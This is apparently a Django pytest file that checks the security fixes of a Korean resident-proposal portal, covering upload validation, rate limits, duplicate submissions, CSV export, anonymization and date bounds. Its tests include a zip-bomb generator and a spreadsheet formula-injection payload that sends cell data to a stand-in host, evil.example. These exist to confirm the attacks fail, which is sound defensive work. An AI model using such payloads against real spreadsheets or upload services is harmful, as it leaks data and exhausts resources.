"""Issue 12, for proposals: each attack first, then that it fails."""

import csv
import io
import threading
import uuid
import zipfile
from datetime import date, datetime, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from common import periods
from common.errors import ServiceError
from org.tests.factories import DepartmentFactory, portal_admin, staff_user
from proposals import services
from proposals.consent import CURRENT_VERSION
from proposals.models import Channel, PersonalDataAccess, Proposal

from .factories import resident_proposal
from .test_public_views import PNG, form_data

pytestmark = pytest.mark.django_db


def _zip_bomb() -> bytes:
    """A small .zip whose one member unpacks to 50 MiB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\0" * (50 * 1024 * 1024))
    return buffer.getvalue()


# --- #1 uploads are checked in the service; a refused upload counts against the limit -------


def test_the_service_refuses_an_unchecked_file() -> None:
    fake_pdf = SimpleUploadedFile("정민서_신분증.pdf", b"MZ\x90\x00 a windows program")
    with pytest.raises(ServiceError) as caught:
        resident_proposal(attachment=fake_pdf)
    assert caught.value.code == "upload"
    assert not Proposal.objects.exists()


def test_the_service_refuses_a_zip_bomb() -> None:
    with pytest.raises(ServiceError):
        resident_proposal(attachment=SimpleUploadedFile("bomb.zip", _zip_bomb()))
    assert not Proposal.objects.exists()


def test_invalid_submissions_count_against_the_rate_limit(client: Client, settings: object) -> None:
    settings.PROPOSAL_RATE_LIMIT = 2  # type: ignore[attr-defined]
    for _ in range(2):  # refused: the file is not what its name says
        bad = SimpleUploadedFile("a.pdf", b"MZ not a pdf")
        client.post(reverse("propose:form"), {**form_data(), "attachment": bad})
    assert not Proposal.objects.exists()
    html = client.post(reverse("propose:form"), form_data(title="정상 제안")).content.decode()
    assert "60분쯤 뒤에 다시 제출해 주세요" in html
    assert not Proposal.objects.exists()


# --- #3 two identical POSTs released together: one proposal, one receipt number ----------------


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_identical_posts_released_together_store_one_proposal() -> None:
    resident_proposal()  # the receipt counter row exists; the race is on the insert
    token = str(uuid.uuid4())
    data = form_data(title="동시에 두 번 누른 제안", submission_token=token)
    barrier = threading.Barrier(2)
    receipts: list[str] = []
    errors: list[BaseException] = []

    def post(i: int) -> None:
        try:
            client = Client(REMOTE_ADDR=f"10.1.0.{i}")
            barrier.wait()
            response = client.post(reverse("propose:form"), data, follow=True)
            assert response.status_code == 200
            receipts.append(client.session["proposals_receipt"])
        except BaseException as exc:
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=post, args=(i,)) for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    stored = Proposal.objects.filter(title="동시에 두 번 누른 제안")
    assert stored.count() == 1
    assert receipts == [stored.get().receipt_number] * 2
    # gapless: the loser's receipt number was rolled back with its insert
    numbers = sorted(int(n[-5:]) for n in Proposal.objects.values_list("receipt_number", flat=True))
    assert numbers == [1, 2]


def test_the_same_token_twice_returns_the_first_proposal() -> None:
    token = uuid.uuid4()
    first = resident_proposal(title="한 번", submission_token=token)
    again = resident_proposal(title="한 번", submission_token=token)
    assert again.pk == first.pk and Proposal.objects.count() == 1
    assert first.events.count() == 1


# --- #4 formula injection -------------------------------------------------------------------


def test_a_formula_name_is_text_in_the_export(admin_client: Client) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    resident_proposal(proposer_name=evil, title="+SUM(1,2)")
    response = admin_client.get(reverse("proposals:export"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + evil in cells and "'+SUM(1,2)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_export_logs_each_row_in_bulk(
    admin_client: Client, django_assert_max_num_queries: object
) -> None:
    for _ in range(30):
        resident_proposal()
    with django_assert_max_num_queries(20):  # type: ignore[operator]
        response = admin_client.get(reverse("proposals:export"))
        rows = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert len(rows) == 31
    assert PersonalDataAccess.objects.filter(action="export").count() == 30


# --- #12 anonymization leaves no personal data in text or file names ------------------------


def test_anonymization_redacts_free_text_and_uploads_have_random_names() -> None:
    p = resident_proposal(
        proposer_name="정민서",
        title="정민서의 제안: 회현동 12-3 앞 가로등",
        content="저는 회현동 12-3에 삽니다. 010-2222-3333으로 연락 주세요. 민서 드림",
        attachment=SimpleUploadedFile("정민서_신분증.png", PNG),
        at=timezone.now() - timedelta(days=4 * 366),
    )
    assert "정민서" not in p.attachment.name and p.attachment.name.endswith(".png")
    assert p.attachment_name == "정민서_신분증.png"
    assert services.personal_data_anonymize_expired() == 1
    p.refresh_from_db()
    for secret in ("정민서", "민서", "12-3", "010-2222-3333"):
        assert secret not in p.title + p.content
    assert "가로등" in p.title and "(주소 삭제)" in p.content  # the idea stays, the address goes
    assert not p.attachment and p.attachment_name == ""


# --- #13 the HR export's year: a clear 400, never a 500 ---------------------------------------


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    year=st.one_of(
        st.sampled_from(["0", "10000", "²", "9" * 40, "-1", "2016.5", "", " ", "1e3", "٢٠١٦"]),
        st.text(max_size=30),
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
    )
)
def test_the_hr_export_never_fails_on_its_year(year: str) -> None:
    client = Client()
    client.force_login(portal_admin())
    response = client.get(reverse("proposals:hr_export"), {"year": year})
    assert response.status_code in (200, 400)
    if year.strip().isdecimal() and year.strip().isascii() and 2016 <= int(year) <= 2100:
        assert response.status_code == 200


@pytest.mark.parametrize("year", ["0", "10000", "²", "9" * 400])
def test_the_hr_export_says_what_is_wrong(admin_client: Client, year: str) -> None:
    response = admin_client.get(reverse("proposals:hr_export"), {"year": year})
    assert response.status_code == 400
    assert "연도" in response.content.decode()


# --- #17 on-behalf registration: dates bounded, consent time as given ------------------------


def _on_behalf(**over: object) -> dict:
    data = {
        "proposer_name": "박철수", "phone": "02-2260-1234", "email": "", "dong": "약수동",
        "title": "우편 제안", "content": "우편으로 보냅니다.", "expected_effect": "",
        "channel": Channel.MAIL, "received_on": "2016-02-20", "department": "",
        "consent_obtained": "on", "consented_at": "",
    }  # fmt: skip
    data.update(over)
    return data


@pytest.mark.parametrize("day", ["0001-01-01", "2015-12-31", "2999-01-01"])
def test_on_behalf_dates_out_of_bounds_are_refused(client: Client, day: str) -> None:
    client.force_login(staff_user())
    response = client.post(reverse("proposals:register"), _on_behalf(received_on=day))
    assert response.status_code == 200
    assert "접수일" in response.content.decode()
    assert not Proposal.objects.exists()


def test_the_service_bounds_on_behalf_dates_too() -> None:
    for at in (datetime(1, 1, 2, tzinfo=timezone.get_current_timezone()),
               timezone.now() + timedelta(days=3)):  # fmt: skip
        with pytest.raises(ServiceError) as caught:
            resident_proposal(channel=Channel.MAIL, at=at)
        assert caught.value.code == "received_on"


def test_the_consent_time_is_recorded_as_given(client: Client) -> None:
    client.force_login(staff_user())
    client.post(
        reverse("proposals:register"),
        _on_behalf(received_on="2016-02-20", consented_at="2016-02-18T15:30"),
    )
    p = Proposal.objects.get()
    assert p.consented_at == datetime(2016, 2, 18, 15, 30, tzinfo=periods.KST)
    assert p.received_on == date(2016, 2, 20)
    with pytest.raises(ServiceError):
        services.resident_proposal_submit(
            title="t", content="c", proposer_name="김민수", phone="010-1111-2222",
            consent_version=CURRENT_VERSION, channel=Channel.MAIL, registered_by=staff_user(),
            consented_at=timezone.now() + timedelta(days=1),
        )  # fmt: skip


# --- #18 HR uses the export meant for them ------------------------------------------------------


def test_hr_downloads_the_performance_points(client: Client) -> None:
    client.force_login(staff_user(department=DepartmentFactory(name="총무과")))
    response = client.get(reverse("proposals:hr_export"))
    assert response.status_code == 200
    assert "성과포인트" in b"".join(response.streaming_content).decode("utf-8-sig")
    client.force_login(staff_user())
    assert client.get(reverse("proposals:hr_export")).status_code == 403
